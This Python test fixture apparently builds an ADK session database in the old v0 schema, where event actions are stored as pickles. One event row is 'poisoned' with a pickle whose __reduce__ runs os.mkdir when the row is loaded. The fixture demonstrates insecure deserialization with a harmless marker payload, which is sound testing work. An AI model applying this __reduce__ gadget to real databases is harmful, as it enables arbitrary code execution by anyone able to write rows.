"""A session database in ADK's oldest form, where actions are pickles, with one that would run code.

Synthetic: made with ADK's own tables, and a row that somebody with access to the database could write.
"""

from __future__ import annotations

import os
import pickle
from datetime import datetime
from pathlib import Path

import sqlalchemy
from google.adk.sessions.schemas.v0 import Base

APP, USER, SESSION = "helper", "ada", "poisoned"


class _Mark:
    """Loading it makes a folder."""

    def __init__(self, folder: Path) -> None:
        self._folder = folder

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (str(self._folder),)


def write(file: Path, mark: Path, app: str = APP, user: str = USER) -> str:
    """Write a database in which one session is poisoned and one is not; return its address for ADK."""
    engine = sqlalchemy.create_engine(f"sqlite:///{file}")
    Base.metadata.create_all(engine)
    now = datetime(2026, 1, 1)
    sessions, events = Base.metadata.tables["sessions"], Base.metadata.tables["events"]
    common = {"app_name": app, "user_id": user}
    with engine.begin() as connection:
        for name in (SESSION, "sound"):
            row = {"id": name, "state": {}, "create_time": now, "update_time": now}
            connection.execute(sessions.insert(), {**common, **row})
        row = {"id": "e1", "session_id": SESSION, "invocation_id": "i1", "author": "agent"}
        connection.execute(
            sqlalchemy.insert(events),
            {**common, **row, "timestamp": now, "actions": _Poison(mark)},
        )
    engine.dispose()
    return f"sqlite+aiosqlite:///{file}"


class _Poison(_Mark):
    """What stands in the row: its pickle, as SQLAlchemy writes it."""


def payload(mark: Path) -> bytes:
    """Return the pickle itself."""
    return pickle.dumps(_Poison(mark))
